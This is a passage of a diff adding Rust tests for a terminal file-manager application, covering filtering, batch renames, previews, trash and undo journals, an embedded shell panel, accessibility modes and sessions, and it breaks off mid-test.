+        assert_eq!(t.tree(), vec!["src", "  main.rs", "Cargo.toml"]);
+        assert_eq!(t.status(), Some("Filter code: 2 matches"));
+        t.keys("2");
+        assert_eq!(t.tree(), vec!["README.md"]);
+        t.keys("0");
+        assert_eq!(t.tree(), vec!["src", "Cargo.toml", "notes.rs.bak", "README.md"]);
+        t.keys("3");
+        assert!(t.status().is_some_and(|s| s.contains("No filter preset 3")));
+    }
+
+    #[test]
+    fn create_prompt_shows_ghost_row_in_target_directory() {
+        let mut t = TestApp::with_files(&[("src/main.rs", ""), ("README.md", "")]).unwrap();
+        t.keys("lalib.rs");
+        let screen = t.render(50, 8);
+        assert!(screen[2].starts_with("│+") && screen[2].contains("lib.rs"), "{:?}", screen);
+        assert!(screen[3].contains("main.rs"), "{:?}", screen);
+
+        t.keys("<Esc>jA");
+        let screen = t.render(50, 8);
+        assert!(screen[3].contains("new directory"), "{:?}", screen);
+        t.keys("<Esc>");
+        assert!(!t.render(50, 8).join("\n").contains("new directory"));
+    }
+
+    #[test]
+    fn modal_prompts_pick_buttons_with_arrows() {
+        let config = Config {
+            modal_prompts: true,
+            ..Config::default()
+        };
+        let mut t = TestApp::with_config(&[("keep.txt", ""), ("old.txt", "")], config).unwrap();
+        t.keys("jd");
+        let screen = t.render(70, 14).join("\n");
+        assert!(screen.contains("[ Delete ]  [ Cancel ]"), "{}", screen);
+        assert!(!screen.lines().nth(12).unwrap_or("").contains("Delete"));
+
+        // Cancel is selected first
+        t.keys("<CR>");
+        assert_eq!(t.app.mode, crate::app::AppMode::Normal);
+        assert!(t.path("old.txt").exists());
+
+        t.keys("d<Left><CR>yes<CR>");
+        assert!(!t.path("old.txt").exists());
+        assert_eq!(t.tree(), vec!["keep.txt"]);
+    }
+
+    #[test]
+    fn expands_all_in_background() {
+        let mut t = TestApp::with_files(&[("a/b/c.txt", ""), ("a/d.txt", ""), ("e.txt", "")]).unwrap();
+        t.press(KeyCode::Char('E'));
+        assert_eq!(t.tree(), ["a", "  b", "    c.txt", "  d.txt", "e.txt"]);
+        assert_eq!(t.status(), Some("Expanded all (5 entries)"));
+        assert!(t.app.expand_job.is_none());
+
+        // Nothing to cancel once it's done
+        t.keys("<Esc>W");
+        assert_eq!(t.tree(), ["a", "e.txt"]);
+    }
+
+    #[test]
+    fn expand_all_limit_keeps_shallow_levels() {
+        let config = Config {
+            expand_limit: 4,
+            ..Config::default()
+        };
+        let files = [("a/b/c.txt", ""), ("a/d.txt", ""), ("e.txt", ""), ("f/g.txt", "")];
+        let mut t = TestApp::with_config(&files, config).unwrap();
+        t.press(KeyCode::Char('E'));
+        assert_eq!(t.tree(), ["a", "  b", "f", "e.txt"]);
+        let expanded: Vec<bool> = t.app.entries.iter().map(|e| e.is_expanded).collect();
+        assert_eq!(expanded, [true, false, false, false]);
+        assert_eq!(t.app.entries[0].omitted, Some(1));
+        let rows = t.render(60, 8);
+        assert!(rows.iter().any(|row| row.contains("a (+1 not shown)")));
+        // Directories still queued at the limit say so too
+        let truncated: Vec<bool> = t.app.entries.iter().map(|e| e.truncated).collect();
+        assert_eq!(truncated, [false, true, true, false]);
+        assert!(rows.iter().any(|row| row.contains("b (not loaded)")));
+        assert!(rows.iter().any(|row| row.contains("f (not loaded)")));
+    }
+
+    #[test]
+    fn batch_rename_that_fails_partway_renames_everything_back() {
+        use crate::rename::{apply_plan, build_plan, PartialRename, RenamePattern};
+        let dir = TempDir::new().unwrap();
+        let targets: Vec<_> = ["a.txt", "b.txt"]
+            .iter()
+            .map(|name| {
+                std::fs::write(dir.path().join(name), *name).unwrap();
+                (dir.path().join(name), name.to_string())
+            })
+            .collect();
+        let plan = build_plan(&RenamePattern::parse("txt/md").unwrap(), &targets);
+        // Turns up after planning, so a.md is already in place when b.md fails
+        std::fs::create_dir_all(dir.path().join("b.md/inside")).unwrap();
+
+        let err = apply_plan(&plan, &crate::policy::Policy::default()).unwrap_err();
+        let partial = err.downcast_ref::<PartialRename>().unwrap();
+        assert_eq!(partial.failed, "b.txt");
+        assert!(partial.renamed.is_empty() && partial.stranded.is_empty());
+        assert!(err.to_string().ends_with("; undone, nothing was renamed"), "{}", err);
+        let mut names: Vec<String> = std::fs::read_dir(dir.path())
+            .unwrap()
+            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+            .collect();
+        names.sort();
+        assert_eq!(names, ["a.txt", "b.md", "b.txt"]);
+        assert_eq!(std::fs::read_to_string(dir.path().join("a.txt")).unwrap(), "a.txt");
+    }
+
+    #[test]
+    fn batch_rename_skips_names_that_are_not_utf8() {
+        use std::os::unix::ffi::OsStrExt;
+        let mut t = TestApp::with_files(&[("a.txt", "")]).unwrap();
+        let raw = t.root().join(std::ffi::OsStr::from_bytes(b"b\xff.txt"));
+        std::fs::write(&raw, "").unwrap();
+        t.app.refresh().unwrap();
+
+        t.keys("^ b txt/md<CR>");
+        assert_eq!(t.app.mode, AppMode::RenamePreview);
+        let planned: Vec<&str> = t.app.rename_plan.iter().map(|item| item.new_name.as_str()).collect();
+        assert_eq!(planned, ["a.md"]);
+        assert_eq!(t.status(), Some("Skipped 1 entry whose name isn't UTF-8"));
+    }
+
+    #[test]
+    fn lists_and_cancels_background_tasks() {
+        let mut t = TestApp::with_files(&[("big.iso", "")]).unwrap();
+        let cancel = crate::tasks::CancelToken::default();
+        let id = t.app.tasks.add(crate::tasks::TaskKind::Move, "big.iso", cancel.clone());
+        t.app.tasks.set_progress(id, "copying 40%");
+
+        t.keys("&");
+        assert_eq!(t.app.mode, AppMode::Tasks);
+        assert!(t.render(80, 20).iter().any(|row| row.contains("big.iso  copying 40%")));
+
+        t.keys("x");
+        assert!(cancel.is_cancelled());
+        assert!(t.render(80, 20).iter().any(|row| row.contains("cancelling")));
+
+        // The job itself reports back when it has stopped
+        t.app.tasks.finish(id);
+        t.keys("<Esc>");
+        assert_eq!(t.app.mode, AppMode::Normal);
+        assert!(t.app.tasks.is_empty());
+    }
+
+    #[test]
+    fn worker_jobs_are_listed_and_cancelled_as_tasks() {
+        use crate::config::Table;
+        use crate::tasks::TaskKind;
+        let config = Config::from_table(&Table::parse("[previewer]\ncsv = \"tail -f\"").unwrap());
+        let mut t = TestApp::with_config(&[("data.csv", "name,size")], config).unwrap();
+        t.keys("<Space>");
+        t.render(80, 20);
+        t.app.poll_previews();
+        let listed = |t: &TestApp| t.app.tasks.iter().map(|task| task.kind).collect::<Vec<_>>();
+        assert_eq!(listed(&t), [TaskKind::Preview]);
+
+        // Cancelling kills the command instead of waiting out its timeout
+        t.keys("& x <Esc>");
+        t.app.poll_previews();
+        assert!(t.app.tasks.is_empty());
+        assert!(t.render(80, 20).join("\n").contains("Previewer cancelled"));
+    }
+
+    #[test]
+    fn redraws_only_after_changes() {
+        use crossterm::event::{Event, KeyEvent, MouseEvent, MouseEventKind};
+        let mut t = TestApp::with_files(&[("a.txt", ""), ("b.txt", "")]).unwrap();
+        t.render(40, 10);
+        assert!(!t.app.needs_redraw && !t.app.is_animating());
+
+        let moved = MouseEvent {
+            kind: MouseEventKind::Moved,
+            column: 5,
+            row: 2,
+            modifiers: KeyModifiers::NONE,
+        };
+        crate::handle_event(&mut t.app, Event::Mouse(moved));
+        assert!(!t.app.needs_redraw);
+
+        crate::handle_event(&mut t.app, Event::Key(KeyEvent::new(KeyCode::Char('j'), KeyModifiers::NONE)));
+        assert!(t.app.needs_redraw);
+        assert_eq!(t.current_name(), Some("b.txt"));
+
+        // A change highlight running out is worth a frame too
+        t.render(40, 10);
+        let long_ago = std::time::Instant::now() - std::time::Duration::from_secs(60);
+        t.app.recent_changes.insert(t.path("a.txt"), long_ago);
+        t.app.cleanup_old_changes();
+        assert!(t.app.needs_redraw);
+    }
+
+    #[test]
+    fn resize_keeps_cursor_in_view() {
+        let names: Vec<String> = (0..30).map(|i| format!("file{:02}.txt", i)).collect();
+        let files: Vec<(&str, &str)> = names.iter().map(|n| (n.as_str(), "")).collect();
+        let mut t = TestApp::with_files(&files).unwrap();
+        t.keys("G");
+        t.render(40, 40);
+        assert_eq!(t.app.tree_scroll, 0);
+
+        let resize = crossterm::event::Event::Resize(40, 10);
+        crate::handle_event(&mut t.app, resize);
+        assert!(t.app.needs_redraw);
+        assert!(t.app.visible_entries().contains(&t.app.cursor));
+        assert!(t.render(40, 10).iter().any(|row| row.contains("file29.txt")));
+    }
+
+    #[test]
+    fn ctrl_z_suspends_from_any_mode() {
+        let mut t = TestApp::with_files(&[("a.txt", "")]).unwrap();
+        t.keys("a<C-z>");
+        assert!(t.app.pending_suspend);
+        // The prompt is still open and didn't get a `z`
+        assert_eq!(t.app.mode, AppMode::Input(crate::app::InputKind::CreateFile));
+        assert_eq!(t.app.input_buffer.as_str(), "");
+    }
+
+    #[test]
+    fn opens_terminal_window_in_selected_directory() {
+        let config = Config {
+            terminal_command: Some("touch {dir}/opened".to_string()),
+            ..Config::default()
+        };
+        let mut t = TestApp::with_config(&[("src/main.rs", "")], config).unwrap();
+        t.keys("S");
+        let marker = t.path("src/opened");
+        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(5);
+        while !marker.exists() && std::time::Instant::now() < deadline {
+            std::thread::sleep(std::time::Duration::from_millis(10));
+        }
+        assert!(marker.exists());
+        assert!(t.status().is_some_and(|s| s.starts_with("Opened a terminal in")));
+    }
+
+    #[test]
+    fn title_shows_project_and_branch_and_shrinks_to_fit() {
+        let config = Config {
+            title: "{project} ({branch}) {path}".to_string(),
+            ..Config::default()
+        };
+        let files = [("Cargo.toml", "[package]\nname = \"demo\"\n"), (".git/HEAD", "ref: refs/heads/feature\n")];
+        let mut t = TestApp::with_config(&files, config).unwrap();
+        let root = t.app.root_info.path.clone();
+        assert!(t.render(120, 6)[0].contains(&format!(" demo (feature) {} ", root)));
+        assert!(t.render(16, 6)[0].contains(" demo "));
+
+        std::fs::write(t.path(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
+        t.app.refresh().unwrap();
+        assert!(t.render(120, 6)[0].contains("demo (main)"));
+    }
+
+    #[test]
+    fn heavy_dirs_are_skipped_by_expand_all_and_counts() {
+        let config = Config {
+            heavy_dirs: vec!["node_modules".to_string()],
+            ..Config::default()
+        };
+        let files = [("node_modules/dep/index.js", ""), ("src/app.js", "")];
+        let mut t = TestApp::with_config(&files, config).unwrap();
+
+        t.keys("E");
+        assert_eq!(t.tree(), vec!["node_modules", "src", "  app.js"]);
+        t.keys("#");
+        let screen = t.render(60, 10).join("\n");
+        assert!(screen.contains("node_modules (~skipped)"), "{}", screen);
+        assert_eq!(t.app.fold_count(&t.path("node_modules")), None);
+
+        // Opening it by hand still works
+        t.keys("ggl");
+        assert_eq!(t.tree(), vec!["node_modules", "  dep", "src", "  app.js"]);
+        assert!(!t.render(60, 10).join("\n").contains("~skipped"));
+    }
+
+    #[test]
+    fn preview_search_stops_following_to_show_the_match() {
+        let text: String = (1..=100).map(|n| format!("entry-{}\n", n)).collect();
+        let mut t = TestApp::with_files(&[("app.log", &text)]).unwrap();
+        t.keys("<Space>");
+        assert!(t.app.preview_follow);
+        assert!(t.render(80, 30).join("\n").contains("[follow]"));
+
+        t.keys("/entry-30<CR>");
+        assert!(!t.app.preview_follow);
+        let screen = t.render(80, 30).join("\n");
+        assert!(screen.contains("entry-30") && !screen.contains("[follow]"), "{}", screen);
+        t.keys("N");
+        assert!(t.render(80, 30).join("\n").contains("entry-30"));
+    }
+
+    #[test]
+    fn preview_keys_scroll_jump_and_close_before_the_tree() {
+        // Text previews stop at 25 lines
+        let text: String = (1..=40).map(|n| format!("line {}\n", n)).collect();
+        let mut t = TestApp::with_files(&[("a.txt", &text), ("b.txt", "")]).unwrap();
+
+        // The overlay shows 17 rows at this size, so the last page starts at row 9
+        t.keys("<Space>");
+        t.render(80, 30);
+        t.keys("G");
+        assert_eq!(t.app.preview_scroll, 9);
+        let screen = t.render(80, 30).join("\n");
+        assert!(screen.contains("line 25") && screen.contains("-25/25]"), "{}", screen);
+        t.keys("<PgDn>");
+        assert_eq!(t.app.preview_scroll, 9);
+        // Scrolling back up moves straight away, with no rows past the end to work off
+        t.keys("<PgUp>");
+        assert_eq!(t.app.preview_scroll, 4);
+
+        t.keys("g<PgDn><PgDn>");
+        assert_eq!(t.app.preview_scroll, 9);
+        t.keys("<PgUp>");
+        assert_eq!(t.app.preview_scroll, 4);
+
+        // g and G moved the preview, not the tree cursor; Esc only closes the preview
+        assert_eq!(t.app.cursor, 0);
+        t.keys("<Esc>");
+        assert!(!t.app.show_preview);
+        t.keys("G");
+        assert_eq!(t.app.cursor, 1);
+    }
+
+    #[test]
+    fn preview_decodes_legacy_encodings() {
+        use crate::encoding::Encoding;
+        use crate::preview::PreviewContent;
+
+        let t = TestApp::with_files(&[]).unwrap();
+        let utf16: Vec<u8> = [0xFF, 0xFE]
+            .into_iter()
+            .chain("hi\nthere".encode_utf16().flat_map(u16::to_le_bytes))
+            .collect();
+        let files: [(&str, &[u8], Encoding, &str); 3] = [
+            ("latin.txt", b"caf\xe9 cr\xe8me\n", Encoding::Latin1, "café crème"),
+            ("wide.txt", &utf16, Encoding::Utf16Le, "hi"),
+            ("sjis.txt", b"\x93\xfa\x96\x7b\x8c\xea\x82\xc5\x82\xb7\n", Encoding::ShiftJis, "日本語です"),
+        ];
+        for (name, bytes, encoding, first_line) in files {
+            std::fs::write(t.path(name), bytes).unwrap();
+            let preview = crate::preview::Previewers::default().generate(&t.path(name)).unwrap();
+            assert_eq!(preview.metadata.encoding, Some(encoding), "{}", name);
+            assert!(matches!(&preview.content, PreviewContent::Text(lines) if lines[0] == first_line), "{}", name);
+        }
+
+        let mut t = TestApp::with_files(&[("notes.txt", "")]).unwrap();
+        std::fs::write(t.path("notes.txt"), b"na\xefve\n").unwrap();
+        t.keys("<Space>");
+        let screen = t.render(100, 20).join("\n");
+        assert!(screen.contains("Latin-1"), "{}", screen);
+    }
+
+    #[test]
+    fn extensionless_scripts_are_recognized_by_shebang() {
+        use crate::fs::filetype::FileType;
+
+        let script = "#!/usr/bin/env python3\nprint('hi')\n";
+        let files = [("deploy", script), ("GNUmakefile", "all:\n"), ("notes", "hello\n")];
+        let mut t = TestApp::with_files(&files).unwrap();
+        let types: Vec<_> = t.app.entries.iter().map(|e| (e.name.as_str(), e.file_type)).collect();
+        assert_eq!(
+            types,
+            vec![("deploy", Some(FileType::Python)), ("GNUmakefile", Some(FileType::Makefile)), ("notes", None)]
+        );
+
+        // Not executable, so `!` goes through the interpreter
+        let action = t.app.context_action().unwrap();
+        assert_eq!(action.command, "/usr/bin/env python3 ./deploy");
+        t.keys("<Space>");
+        assert!(t.render(100, 20).join("\n").contains("(Python script)"));
+
+        t.keys("<Esc>G");
+        assert!(t.app.context_action().is_none());
+
+        // Sniffed once: a rebuild doesn't read the file again until it's modified
+        let modified = std::fs::metadata(t.path("notes")).unwrap().modified().unwrap();
+        std::fs::write(t.path("notes"), "#!/sh\n").unwrap();
+        let notes = std::fs::File::options().write(true).open(t.path("notes")).unwrap();
+        notes.set_modified(modified).unwrap();
+        t.app.refresh().unwrap();
+        assert_eq!(t.app.entries[2].file_type, None);
+        notes.set_modified(modified + std::time::Duration::from_secs(1)).unwrap();
+        t.app.refresh().unwrap();
+        assert_eq!(t.app.entries[2].file_type, Some(FileType::Shell));
+    }
+
+    #[test]
+    fn policy_denies_and_allows_operations() {
+        let policy = "[policy]\ndelete = \"deny\"\nmove = \"trash\"\noverwrite = \"allow\"\nrename = \"deny\"";
+        let table = crate::config::Table::parse(policy).unwrap();
+        let config = Config::from_table(&table);
+        assert_eq!(config.policy.rule(crate::policy::Operation::Move), crate::policy::Rule::Allow);
+        let mut t = TestApp::with_config(&[("a.txt", "keep")], config).unwrap();
+
+        t.keys("d");
+        assert_eq!(t.app.mode, AppMode::Normal);
+        assert!(t.status().is_some_and(|s| s.contains("Deleting is disabled")));
+        assert!(t.path("a.txt").exists());
+
+        t.keys("aa.txt<CR>");
+        assert_eq!(t.status(), Some("Overwrote: a.txt"));
+        assert_eq!(std::fs::read_to_string(t.path("a.txt")).unwrap(), "");
+
+        // The rename itself refuses, not just the key that started it
+        t.keys("^ b txt/md<CR>");
+        assert_eq!(t.app.mode, AppMode::RenamePreview);
+        t.keys("y");
+        assert!(t.status().is_some_and(|s| s.contains("Renaming is disabled")), "{:?}", t.status());
+        assert!(t.path("a.txt").exists() && !t.path("a.md").exists());
+    }
+
+    #[cfg(all(unix, not(target_os = "macos")))]
+    #[test]
+    fn trash_keeps_restore_info_and_unique_names() {
+        let t = TestApp::with_files(&[("one/junk.txt", ""), ("two/junk.txt", "")]).unwrap();
+        let trash = t.path("Trash");
+        let first = crate::trash::trash_to(&t.path("one/junk.txt"), &trash).unwrap();
+        let second = crate::trash::trash_to(&t.path("two/junk.txt"), &trash).unwrap();
+
+        assert_eq!(first, trash.join("files/junk.txt"));
+        assert_eq!(second, trash.join("files/junk.txt.2"));
+        assert!(!t.path("one/junk.txt").exists());
+        let info = std::fs::read_to_string(trash.join("info/junk.txt.2.trashinfo")).unwrap();
+        assert!(info.contains(&format!("Path={}", t.path("two/junk.txt").display())), "{}", info);
+    }
+
+    #[cfg(all(unix, not(target_os = "macos")))]
+    #[test]
+    fn undo_journal_survives_a_restart_and_prunes_old_entries() {
+        use crate::journal::{Action, Journal};
+        let mut t = TestApp::with_files(&[("a.txt", "a"), ("b.txt", "b")]).unwrap();
+        let scratch = TempDir::new().unwrap();
+        let (file, trash) = (scratch.path().join("root.journal"), scratch.path().join("Trash"));
+        let age = std::time::Duration::from_secs(60);
+        t.app.journal = Journal::open(Some(file.clone()), age, 10);
+        t.keys("r c<CR>");
+        let trashed = crate::trash::trash_to(&t.path("b.txt"), &trash).unwrap();
+        t.app.journal.record(Action::Trash, &t.path("b.txt"), &trashed).unwrap();
+
+        // A new session on the same root
+        t.app.journal = Journal::open(Some(file.clone()), age, 10);
+        assert_eq!(t.app.journal.len(), 2);
+        t.keys("U");
+        assert!(t.render(80, 10).iter().any(|line| line.contains("rename a.txt → c.txt")));
+        t.keys("<Esc>u");
+        assert_eq!(t.status(), Some("Undid trash: b.txt is back"));
+        assert_eq!(std::fs::read_to_string(t.path("b.txt")).unwrap(), "b");
+        assert!(!trash.join("info/b.txt.trashinfo").exists());
+        t.keys("u");
+        assert!(t.path("a.txt").exists() && !t.path("c.txt").exists());
+        t.keys("u");
+        assert_eq!(t.status(), Some("Nothing to undo"));
+
+        // A record that can't be written lasts for the session, past later ones
+        let mut journal = Journal::open(Some(file.clone()), age, 10);
+        journal.record(Action::Rename, &t.path("a.txt"), &t.path("two\nlines.txt")).unwrap();
+        journal.record(Action::Rename, &t.path("b.txt"), &t.path("z.txt")).unwrap();
+        let kept: Vec<_> = journal.records().map(|r| r.to.clone()).collect();
+        assert_eq!(kept, [t.path("z.txt"), t.path("two\nlines.txt")]);
+        assert_eq!(Journal::open(Some(file.clone()), age, 10).len(), 1);
+
+        let mut pruned = Journal::open(Some(file), age, 1);
+        pruned.record(Action::Rename, &t.path("a.txt"), &t.path("x.txt")).unwrap();
+        pruned.record(Action::Rename, &t.path("b.txt"), &t.path("y.txt")).unwrap();
+        assert_eq!(pruned.len(), 1);
+        assert_eq!(pruned.newest(0).unwrap().to, t.path("y.txt"));
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn reveal_requests_follow_the_root_after_re_rooting() {
+        let mut t = TestApp::with_files(&[("a/x.txt", ""), ("b/y.txt", "")]).unwrap();
+        let Ok((server, rx)) = crate::ipc::start_server(t.root()) else {
+            return;
+        };
+        t.app.reveal_server = Some(server);
+        t.app.change_root(&t.path("b")).unwrap();
+
+        crate::ipc::send_reveal(&t.path("b/y.txt")).unwrap();
+        assert_eq!(rx.try_recv().unwrap(), t.path("b/y.txt").canonicalize().unwrap());
+        assert!(crate::ipc::send_reveal(&t.path("a/x.txt")).is_err());
+    }
+
+    #[test]
+    fn policy_covers_undo_and_flags_rules_that_dont_apply() {
+        let table = crate::config::Table::parse("[policy]\nrename = \"confirm\"\nmove = \"deny\"").unwrap();
+        let config = Config::from_table(&table);
+        assert_eq!(config.warnings, ["[policy] rename = \"confirm\" doesn't apply; ignored"]);
+        assert_eq!(config.policy.rule(crate::policy::Operation::Rename), crate::policy::Rule::Allow);
+
+        let mut t = TestApp::with_config(&[("a.txt", "")], config).unwrap();
+        t.app.journal.record(crate::journal::Action::Move, &t.path("b.txt"), &t.path("a.txt")).unwrap();
+        t.keys("u");
+        assert!(t.status().is_some_and(|s| s.contains("Moving is disabled")));
+        assert!(t.path("a.txt").exists() && !t.path("b.txt").exists());
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn terminal_panel_hosts_one_shell_on_a_tty_and_sends_it_input() {
+        use crate::terminal::TerminalPanel;
+        let dir = TempDir::new().unwrap();
+        let mut term = TerminalPanel::new(dir.path().to_path_buf());
+        let wait_for = |term: &mut TerminalPanel, done: &dyn Fn(&TerminalPanel) -> bool| {
+            let start = std::time::Instant::now();
+            while !done(term) && start.elapsed() < std::time::Duration::from_secs(5) {
+                term.poll();
+                std::thread::sleep(std::time::Duration::from_millis(10));
+            }
+        };
+
+        term.run("test -t 1 && printf 'name? '; read name; echo \"hi $name\"");
+        // The question shows before its line ends
+        wait_for(&mut term, &|term| term.lines.last().is_some_and(|l| l == "name? "));
+        assert_eq!(term.lines.last().map(String::as_str), Some("name? "));
+        term.send("bob");
+        wait_for(&mut term, &|term| term.lines.iter().any(|l| l == "hi bob"));
+        assert!(term.lines.iter().any(|l| l == "hi bob"), "{:?}", term.lines);
+        wait_for(&mut term, &|term| !term.is_running());
+        assert!(!term.is_running());
+
+        // Lines share one shell, ...
+        term.run("x=5");
+        wait_for(&mut term, &|term| !term.is_running());
+        std::fs::create_dir(dir.path().join("sub")).unwrap();
+        term.follow(&dir.path().join("sub"));
+        // ... follow the tree ...
+        term.run("echo \"x=$x in ${PWD##*/}\"");
+        wait_for(&mut term, &|term| !term.is_running());
+        assert_eq!(term.lines.last().map(String::as_str), Some("x=5 in sub"), "{:?}", term.lines);
+
+        // ... and Ctrl-C stops the whole running command but not the shell
+        term.run("sleep 30 | cat; echo next");
+        std::thread::sleep(std::time::Duration::from_millis(200));
+        term.kill();
+        wait_for(&mut term, &|term| !term.is_running());
+        assert!(!term.is_running(), "{:?}", term.lines);
+        term.run("echo \"still $x\"");
+        wait_for(&mut term, &|term| !term.is_running());
+        assert!(term.lines.iter().any(|l| l == "still 5"), "{:?}", term.lines);
+    }
+
+    #[test]
+    fn mouse_capture_toggles_and_a_modified_click_releases_it_until_a_key() {
+        use crossterm::event::{Event, KeyEvent, MouseButton, MouseEvent, MouseEventKind};
+        let mut t = TestApp::with_files(&[("a.txt", ""), ("b.txt", "")]).unwrap();
+        t.keys("m");
+        assert!(!t.app.wants_mouse());
+        assert!(t.render(80, 6).last().unwrap().contains("|Select text|"));
+        t.keys("m");
+        assert!(t.app.wants_mouse());
+
+        let click = |modifiers| {
+            Event::Mouse(MouseEvent {
+                kind: MouseEventKind::Down(MouseButton::Left),
+                column: 3,
+                row: 2,
+                modifiers,
+            })
+        };
+        crate::handle_event(&mut t.app, click(KeyModifiers::ALT));
+        assert!(!t.app.wants_mouse());
+        assert_eq!(t.app.cursor, 0);
+        crate::handle_event(&mut t.app, Event::Key(KeyEvent::new(KeyCode::Char('j'), KeyModifiers::NONE)));
+        assert!(t.app.wants_mouse());
+        assert_eq!(t.app.cursor, 1);
+    }
+
+    #[test]
+    fn filter_and_search_patterns_with_slashes_match_relative_paths() {
+        let files = [
+            ("src/main.rs", ""),
+            ("src/ui/tree.rs", ""),
+            ("tests/unit/fixtures/a.json", ""),
+            ("tests/fixtures/b.json", ""),
+            ("main.rs", ""),
+        ];
+        let mut t = TestApp::with_files(&files).unwrap();
+        t.keys("F").type_str("src/*.rs").keys("<CR>");
+        assert_eq!(t.tree(), vec!["src", "  main.rs"]);
+        t.keys("0F").type_str("tests/**/fixtures").keys("<CR>");
+        assert_eq!(t.tree(), vec!["tests", "  fixtures", "  unit", "    fixtures"]);
+        t.keys("0F").type_str("src/UI").keys("<CR>");
+        assert_eq!(t.tree(), vec!["src", "  ui", "    tree.rs"]);
+        t.keys("0");
+
+        t.keys("l/").type_str("src/m");
+        let found: Vec<&str> = t.app.search_results.iter().map(|&i| t.app.entries[i].name.as_str()).collect();
+        assert_eq!(found, ["main.rs"]);
+        assert_eq!(t.app.entries[t.app.cursor].path, t.path("src/main.rs"));
+    }
+
+    #[test]
+    fn marks_by_pattern_age_and_directory_and_inverts() {
+        let files = [("build/a.o", ""), ("build/b.o", ""), ("build/main.c", ""), ("new.txt", ""), ("old.txt", "")];
+        let mut t = TestApp::with_files(&files).unwrap();
+        let month_ago = std::time::SystemTime::now() - std::time::Duration::from_secs(40 * 24 * 60 * 60);
+        std::fs::File::options().write(true).open(t.path("old.txt")).unwrap().set_modified(month_ago).unwrap();
+        t.keys("l");
+        t.app.refresh().unwrap();
+        let marked = |t: &TestApp| {
+            let names = t.app.marked.iter().map(|p| p.file_name().unwrap().to_string_lossy().to_string());
+            let mut names: Vec<String> = names.collect();
+            names.sort();
+            names
+        };
+
+        t.keys("*").type_str("*.o").keys("<CR>");
+        assert_eq!(marked(&t), ["a.o", "b.o"]);
+        assert_eq!(t.status(), Some("Marked 2 entries, 2 marked in total"));
+        t.keys("*").type_str("-a.o").keys("<CR>");
+        assert_eq!(marked(&t), ["b.o"]);
+        t.keys("*").type_str("/^(main|new)\\./ >30d").keys("<CR>");
+        assert_eq!(marked(&t), ["b.o"]);
+        t.keys("*").type_str("/^(main|new)\\./,>30d").keys("<CR>");
+        assert_eq!(marked(&t), ["b.o", "main.c", "new.txt", "old.txt"]);
+
+        t.keys("^");
+        assert_eq!(marked(&t), ["a.o", "build"]);
+        t.keys("V*").type_str(">2000-01-01").keys("<CR>");
+        assert!(t.app.marked.is_empty());
+        t.keys("j+");
+        assert_eq!(marked(&t), ["a.o", "b.o", "main.c"]);
+        assert_eq!(t.status(), Some("Marked 3 entries in build"));
+    }
+
+    #[test]
+    fn screen_reader_mode_drops_icons_and_announces_the_selection() {
+        let config = Config {
+            screen_reader: true,
+            ..Config::default()
+        };
+        let mut t = TestApp::with_config(&[("src/main.rs", "fn main() {}\n"), ("notes.txt", "hi")], config).unwrap();
+        let screen = t.render(60, 10);
+        assert!(screen[1].contains("│ src/"), "{:?}", screen);
+        assert!(screen.iter().any(|line| line.contains("src, directory, collapsed, 1 of 2")), "{:?}", screen);
+
+        t.keys("jv");
+        let screen = t.render(60, 10);
+        assert!(screen.iter().any(|line| line.contains("notes.txt, file, 2 B, marked, 2 of 2")), "{:?}", screen);
+        assert_eq!(crate::tasks::Alert::Bell.sequence("move a"), Some("\x07".to_string()));
+    }
+
+    #[test]
+    fn compat_mode_draws_ascii_without_colors() {
+        use crate::ui::compat::{ColorLevel, Compat};
+        use ratatui::style::{Color, Modifier};
+        assert_eq!(Compat::detect(Some("dumb"), None, None), Compat { ascii: true, colors: ColorLevel::None });
+        assert_eq!(Compat::detect(Some("linux"), None, None).colors, ColorLevel::Basic);
+        assert_eq!(Compat::detect(Some("xterm-256color"), Some("1"), None).colors, ColorLevel::None);
+        assert_eq!(Compat::detect(Some("xterm-256color"), Some(""), None), Compat::default());
+
+        let mut t = TestApp::with_files(&[("src/main.rs", ""), ("日本.txt", "")]).unwrap();
+        t.app.compat = Compat { ascii: true, colors: ColorLevel::None };
+        t.keys("<Space>");
+        let mut terminal = Terminal::new(TestBackend::new(60, 12)).unwrap();
+        terminal.draw(|f| crate::ui::draw(f, &mut t.app)).unwrap();
+        let buffer = terminal.backend().buffer();
+        assert!(buffer.content.iter().all(|cell| cell.symbol().is_ascii()));
+        assert!(buffer.content.iter().all(|cell| cell.fg == Color::Reset && cell.bg == Color::Reset));
+        // The cursor row stays visible in reverse video
+        assert!(buffer[(2, 1)].modifier.contains(Modifier::REVERSED));
+
+        let screen = t.render(60, 12);
+        assert!(screen[0].starts_with("+ "), "{:?}", screen);
+        assert!(screen[1].starts_with("| src/"), "{:?}", screen);
+        assert!(screen[2].starts_with("| ????.txt"), "{:?}", screen);
+        assert!(screen.iter().any(|line| line.contains("|main.rs")), "{:?}", screen);
+    }
+
+    #[test]
+    fn finished_task_results_stay_until_a_key_and_alerts_are_per_kind() {
+        use crate::tasks::{Alert, TaskKind};
+        let table = crate::config::Table::parse("[accessibility]\nalert = \"bell\"\n[notify]\nmove = \"desktop\"\n");
+        let config = Config::from_table(&table.unwrap());
+        assert_eq!(config.alert_for(TaskKind::Move), Alert::Desktop);
+        assert_eq!(config.alert_for(TaskKind::Expand), Alert::Bell);
+
+        let mut t = TestApp::with_files(&[("a.txt", ""), ("b.txt", "")]).unwrap();
+        t.app.set_status("Moved a.txt");
+        t.app.pin_status();
+        let message = t.app.status_message.as_mut().unwrap();
+        message.time = message.time.checked_sub(std::time::Duration::from_secs(60)).unwrap_or(message.time);
+        t.app.clear_old_status();
+        assert_eq!(t.status(), Some("Moved a.txt"));
+        t.keys("j");
+        assert_eq!(t.status(), None);
+    }
+
+    #[test]
+    fn sessions_round_trip_expansion_and_cursor() {
+        use crate::session::Session;
+        let files = [("src/ui/tree.rs", ""), ("src/main.rs", ""), (".env", "")];
+        let mut t = TestApp::with_files(&files).unwrap();
+        t.keys("ljlj");
+        t.app.show_hidden = true;
+        t.app.refresh().unwrap();
+        let saved = Session::capture(&t.app);
+        let decoded = Session::decode(&saved.encode()).unwrap();
+        assert_eq!(decoded, saved);
+
+        let mut fresh = TestApp::with_files(&[]).unwrap();
+        fresh.app = crate::app::App::new(saved.root.clone(), Config::default());
+        fresh.app.refresh().unwrap();
+        decoded.restore(&mut fresh.app).unwrap();
